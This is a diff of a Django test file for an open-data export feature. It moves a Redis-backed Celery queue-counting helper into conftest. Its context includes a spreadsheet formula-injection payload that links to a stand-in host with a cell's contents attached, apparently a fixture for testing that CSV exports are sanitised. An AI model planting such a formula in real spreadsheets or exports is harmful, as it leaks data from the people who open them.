@@ -15,6 +15,8 @@ from django.utils.http import http_date
 from tanam import selectors, services
 from tanam.models import Community, OpenDataFile, Planting
 
+from .conftest import queued_tasks
+
 EVIL = '=HYPERLINK("http://contoh.invalid/?x="&A1,"Klik")'
 
 
@@ -161,24 +163,14 @@ def test_management_command_builds_both_files(plantings):
     assert set(OpenDataFile.objects.values_list("kind", flat=True)) == {"csv", "geojson"}
 
 
-def _queued(task_name):
-    """How many messages of this task wait in this run's Celery queue (the real Redis broker)."""
-    import redis
-    from django.conf import settings
-
-    broker = redis.Redis.from_url(settings.CELERY_BROKER_URL)
-    messages = broker.lrange(settings.CELERY_TASK_DEFAULT_QUEUE, 0, -1)
-    return [json.loads(m)["headers"]["task"] for m in messages].count(task_name)
-
-
 def test_a_burst_of_verifications_schedules_one_build(make_planting, alice, django_capture_on_commit_callbacks):
     first, second, third = (make_planting(status="pending") for _ in range(3))
-    before = _queued("tanam.open_data_build")
+    before = queued_tasks("tanam.open_data_build")
     for planting in (first, second):
         with django_capture_on_commit_callbacks(execute=True):
             services.planting_verify(planting=planting, user=alice)
-    assert _queued("tanam.open_data_build") == before + 1
+    assert queued_tasks("tanam.open_data_build") == before + 1
     services.open_data_build()  # the build clears the flag before it reads: the next change schedules again
     with django_capture_on_commit_callbacks(execute=True):
         services.planting_verify(planting=third, user=alice)
-    assert _queued("tanam.open_data_build") == before + 2
+    assert queued_tasks("tanam.open_data_build") == before + 2
